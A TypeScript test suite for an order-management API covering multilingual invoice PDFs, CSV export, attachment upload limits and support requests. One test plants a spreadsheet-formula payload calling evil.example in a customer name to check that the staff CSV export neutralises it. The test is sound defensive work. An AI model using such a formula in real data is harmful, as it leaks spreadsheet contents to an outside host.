import { sql } from 'drizzle-orm';
import { describe, expect, it } from 'vitest';
import { parseCsv, pdfText } from '#server/test/documents';
import { createProduct, createUser, daysFromNow, multipart, placeOrderAs } from '#server/test/factories';
import { createTestApp } from '#server/test/harness';
import { exportOrderBatches } from './orders.service';

const { app } = await createTestApp();
const db = app.ctx.db;

describe('invoice PDF', () => {
  it('is a real PDF with the company, customer, order, items and totals', async () => {
    const customer = await createUser(app, 'Customer');
    await db.execute(
      sql`update customers set name = 'Lanka Traders' where customer_id = ${customer.customerId}`,
    );
    const soap = await createProduct(app, { name: 'Sunlight Soap 100g', unitPrice: 1.25, units: 100 });
    const tea = await createProduct(app, { name: 'Ceylon Tea 400g', unitPrice: 6.4, units: 100 });
    const orderId = (
      await placeOrderAs(app, customer, [
        { productID: soap.productId, quantity: 12 },
        { productID: tea.productId, quantity: 3 },
      ])
    ).json().order_id;
    const res = await app.inject({ url: `/api/orders/${orderId}/invoice.pdf`, headers: customer.auth });
    expect(res.statusCode).toBe(200);
    expect(res.headers['content-type']).toBe('application/pdf');
    expect(res.headers['content-disposition']).toBe(`attachment; filename=invoice-${orderId}.pdf`);
    expect(res.rawPayload.subarray(0, 5).toString()).toBe('%PDF-');
    const text = await pdfText(res.rawPayload);
    for (const expected of [
      'KandyPack Distributors (Pvt) Ltd',
      'INVOICE',
      `Order no.: #${orderId}`,
      'Lanka Traders',
      'Sunlight Soap 100g',
      'Ceylon Tea 400g',
      '$15.00', // 12 x 1.25
      '$19.20', // 3 x 6.40
      '$34.20', // subtotal
      '$25.00', // fee
      '$59.20', // total
    ]) {
      expect(text).toContain(expected);
    }
    // English stays in the standard fonts: nothing embedded
    expect(res.rawPayload.includes('NotoSans')).toBe(false);
  });

  it("is in the customer's language: Sinhala and Tamil labels, their Noto Sans font embedded, shaped text readable", async () => {
    const soap = await createProduct(app, { name: 'Sunlight Soap 200g', unitPrice: 1.25, units: 100 });
    const cases = [
      {
        language: 'si',
        font: 'NotoSansSinhala',
        labels: ['ප්‍රමාණය', 'භාණ්ඩය', 'තත්ත්වය', 'ඒකක මිල', 'එකතුව'],
        other: 'NotoSansTamil',
      },
      {
        language: 'ta',
        font: 'NotoSansTamil',
        labels: ['அளவு', 'உப', 'ஆர்டர்', 'இல.:'],
        other: 'NotoSansSinhala',
      },
    ] as const;
    for (const c of cases) {
      const customer = await createUser(app, 'Customer');
      const chosen = await app.inject({
        method: 'PUT',
        url: '/api/auth/profile/language',
        headers: customer.auth,
        payload: { language: c.language },
      });
      expect(chosen.statusCode, chosen.body).toBe(200);
      const orderId = (
        await placeOrderAs(app, customer, [{ productID: soap.productId, quantity: 12 }])
      ).json().order_id;
      // the customer's invoice is in its language whoever downloads it (the manager too)
      const manager = await createUser(app, 'Manager');
      for (const who of [customer, manager]) {
        const res = await app.inject({ url: `/api/orders/${orderId}/invoice.pdf`, headers: who.auth });
        expect(res.statusCode).toBe(200);
        const pdf = res.rawPayload;
        expect(pdf.includes(`${c.font}-Regular`), c.language).toBe(true);
        expect(pdf.includes(`${c.font}-Bold`), c.language).toBe(true);
        expect(pdf.includes(c.other), c.language).toBe(false);
        // read back through the fonts' ToUnicode maps (pdfjs, which splits and spaces the runs
        // as it likes: compared without spaces), Latin figures beside the script
        const text = (await pdfText(pdf)).replace(/\s+/g, '');
        for (const expected of [...c.labels, `#${orderId}`, 'Sunlight Soap 200g', '$15.00', 'KandyPack'])
          expect(text, c.language).toContain(expected.replace(/\s+/g, ''));
        expect(text).not.toContain('Unitprice');
      }
    }
  });
});

describe('GET /api/orders/export.csv', () => {
  it('exports the filtered list as RFC 4180 CSV with a header row, quoting where needed', async () => {
    const customer = await createUser(app, 'Customer');
    await db.execute(
      sql`update customers set name = ${'Perera, "Sons" & Co'} where customer_id = ${customer.customerId}`,
    );
    const product = await createProduct(app, { unitPrice: 10, units: 100 });
    const ids: number[] = [];
    for (let i = 0; i < 3; i++) {
      ids.push(
        (await placeOrderAs(app, customer, [{ productID: product.productId, quantity: i + 1 }])).json()
          .order_id,
      );
    }
    await db.execute(sql`update orders set status = 'Scheduled' where order_id = ${ids[1]!}`);
    const all = await app.inject({ url: '/api/orders/export.csv', headers: customer.auth });
    expect(all.statusCode).toBe(200);
    expect(all.headers['content-type']).toBe('text/csv; charset=utf-8');
    expect(all.payload).toContain('"Perera, ""Sons"" & Co"');
    const rows = parseCsv(all.payload);
    expect(rows[0]).toEqual([
      'Order ID',
      'Order Date',
      'Delivery Date',
      'Status',
      'Customer',
      'Items',
      'Total (USD)',
      'Delivered At',
    ]);
    expect(rows).toHaveLength(4);
    expect(rows[1]).toEqual([
      String(ids[2]),
      expect.any(String),
      daysFromNow(10),
      'Pending',
      'Perera, "Sons" & Co',
      '1',
      '55.00',
      '',
    ]);
    const scheduled = parseCsv(
      (await app.inject({ url: '/api/orders/export.csv?status=Scheduled', headers: customer.auth })).payload,
    );
    expect(scheduled.slice(1).map((r) => r[0])).toEqual([String(ids[1])]);

    // read a batch at a time by keyset: batches of 2 are the list, in its order, cut at the limit
    const user = {
      userId: customer.userId,
      userName: customer.userName,
      email: customer.email,
      role: 'Customer',
      portal: 'customer' as const,
      customerId: customer.customerId,
      employeeId: null,
      language: null,
    };
    const batches: number[][] = [];
    for await (const batch of exportOrderBatches(app.ctx, user, {}, 10, 2))
      batches.push(batch.map((r) => r.order_id));
    expect(batches).toEqual([[ids[2], ids[1]], [ids[0]]]);
    const cut: number[][] = [];
    for await (const batch of exportOrderBatches(app.ctx, user, {}, 2, 1))
      cut.push(batch.map((r) => r.order_id));
    expect(cut).toEqual([[ids[2]], [ids[1]]]);
  });
});

describe('CSV formula injection', () => {
  it("a customer's formula-like name reaches the staff export as text, not a live formula", async () => {
    const customer = await createUser(app, 'Customer');
    const manager = await createUser(app, 'Manager');
    const evil = '=HYPERLINK("http://evil.example/?x="&A2,"Click")';
    await db.execute(sql`update customers set name = ${evil} where customer_id = ${customer.customerId}`);
    const product = await createProduct(app);
    const orderId = (
      await placeOrderAs(app, customer, [{ productID: product.productId, quantity: 1 }])
    ).json().order_id;
    const res = await app.inject({ url: '/api/orders/export.csv', headers: manager.auth });
    const row = parseCsv(res.payload).find((r) => r[0] === String(orderId))!;
    expect(row[4]).toBe(`'${evil}`);
    expect(res.payload).not.toMatch(/(^|,)"?=HYPERLINK/m);
  });
});

describe('attachments', () => {
  const png = Buffer.from('89504e470d0a1a0a0000000d49484452', 'hex');

  it('keeps files sent with the order and lets the owner and staff download them', async () => {
    const customer = await createUser(app, 'Customer');
    const stranger = await createUser(app, 'Customer');
    const manager = await createUser(app, 'Manager');
    const product = await createProduct(app);
    const payload = JSON.stringify({
      scheduleDate: daysFromNow(12),
      items: [{ productID: product.productId, quantity: 1 }],
      deliveryAddress: '8 Hill Street',
    });
    const body = multipart({ payload }, [
      { name: 'files', filename: 'floor-plan.png', data: png, type: 'image/png' },
      { name: 'files', filename: 'po.pdf', data: Buffer.from('%PDF-1.4 test'), type: 'application/pdf' },
    ]);
    const res = await app.inject({
      method: 'POST',
      url: `/api/customers/${customer.customerId}/orders`,
      headers: { ...customer.auth, ...body.headers },
      payload: body.payload,
    });
    expect(res.statusCode).toBe(201);
    expect(res.json().attachments).toBe(2);
    const orderId = res.json().order_id;
    const detail = (await app.inject({ url: `/api/orders/${orderId}`, headers: customer.auth })).json();
    expect(
      detail.attachments.map((a: { file_name: string; size_bytes: number }) => [a.file_name, a.size_bytes]),
    ).toEqual([
      ['floor-plan.png', png.length],
      ['po.pdf', 13],
    ]);
    const url = `/api/orders/${orderId}/attachments/${detail.attachments[0].attachment_id}`;
    for (const who of [customer, manager]) {
      const file = await app.inject({ url, headers: who.auth });
      expect(file.statusCode).toBe(200);
      expect(file.headers['content-type']).toBe('image/png');
      expect(file.rawPayload.equals(png)).toBe(true);
    }
    expect((await app.inject({ url, headers: stranger.auth })).statusCode).toBe(404);
  });

  it('refuses another file type with 415 and a file over 10 MB with 413, leaving no order behind', async () => {
    const customer = await createUser(app, 'Customer');
    const product = await createProduct(app, { units: 10 });
    const payload = JSON.stringify({
      scheduleDate: daysFromNow(12),
      items: [{ productID: product.productId, quantity: 4 }],
    });
    const count = async () =>
      (
        await db.execute<{ n: number }>(
          sql`select count(*)::int as n from orders where customer_id = ${customer.customerId}`,
        )
      ).rows[0]!.n;
    const send = (file: { filename: string; data: Buffer; type: string }) => {
      const body = multipart({ payload }, [{ name: 'files', ...file }]);
      return app.inject({
        method: 'POST',
        url: `/api/customers/${customer.customerId}/orders`,
        headers: { ...customer.auth, ...body.headers },
        payload: body.payload,
      });
    };
    const exe = await send({
      filename: 'setup.exe',
      data: Buffer.from('MZ'),
      type: 'application/octet-stream',
    });
    expect(exe.statusCode).toBe(415);
    expect(exe.json().detail).toBe(
      "Unsupported file type for 'setup.exe': allowed are pdf, doc, docx, jpg, jpeg, png",
    );
    const big = await send({
      filename: 'scan.pdf',
      data: Buffer.alloc(10 * 1024 * 1024 + 1, 1),
      type: 'application/pdf',
    });
    expect(big.statusCode).toBe(413);
    expect(big.json().detail).toMatch(/10 MB/);
    const many = multipart(
      { payload },
      Array.from({ length: 11 }, (_, i) => ({
        name: 'files',
        filename: `p${i}.png`,
        data: Buffer.from('x'),
        type: 'image/png',
      })),
    );
    const tooMany = await app.inject({
      method: 'POST',
      url: `/api/customers/${customer.customerId}/orders`,
      headers: { ...customer.auth, ...many.headers },
      payload: many.payload,
    });
    expect(tooMany.statusCode).toBe(413);
    expect(tooMany.json().detail).toBe('Too many files: at most 10 attachments per order');
    expect(await count()).toBe(0);
    const units = await db.execute<{ n: number }>(
      sql`select available_units as n from products where product_id = ${product.productId}`,
    );
    expect(units.rows[0]!.n).toBe(10);
  });
});

describe('support requests', () => {
  it('stores a request the customer sees as its own and staff see in the list', async () => {
    const customer = await createUser(app, 'Customer');
    const other = await createUser(app, 'Customer');
    const manager = await createUser(app, 'Manager');
    const product = await createProduct(app);
    const orderId = (
      await placeOrderAs(app, customer, [{ productID: product.productId, quantity: 1 }])
    ).json().order_id;
    const otherOrder = (
      await placeOrderAs(app, other, [{ productID: product.productId, quantity: 1 }])
    ).json().order_id;
    const created = await app.inject({
      method: 'POST',
      url: '/api/support/requests',
      headers: customer.auth,
      payload: {
        subject: 'Change delivery address',
        message: 'Please deliver to the back gate.',
        order_id: orderId,
      },
    });
    expect(created.statusCode).toBe(201);
    expect(created.json()).toMatchObject({
      order_id: orderId,
      status: 'Open',
      customer_id: customer.customerId,
    });
    const foreign = await app.inject({
      method: 'POST',
      url: '/api/support/requests',
      headers: customer.auth,
      payload: { subject: 'x', message: 'y', order_id: otherOrder },
    });
    expect(foreign.statusCode).toBe(422);
    const empty = await app.inject({
      method: 'POST',
      url: '/api/support/requests',
      headers: customer.auth,
      payload: { subject: ' ', message: 'y' },
    });
    expect(empty.json().detail).toMatch(/subject/);
    const own = (await app.inject({ url: '/api/support/requests', headers: customer.auth })).json();
    expect(own.map((r: { subject: string }) => r.subject)).toEqual(['Change delivery address']);
    expect((await app.inject({ url: '/api/support/requests', headers: other.auth })).json()).toEqual([]);
    const staff = (await app.inject({ url: '/api/support/requests', headers: manager.auth })).json();
    expect(staff.some((r: { request_id: number }) => r.request_id === created.json().request_id)).toBe(true);
  });
});
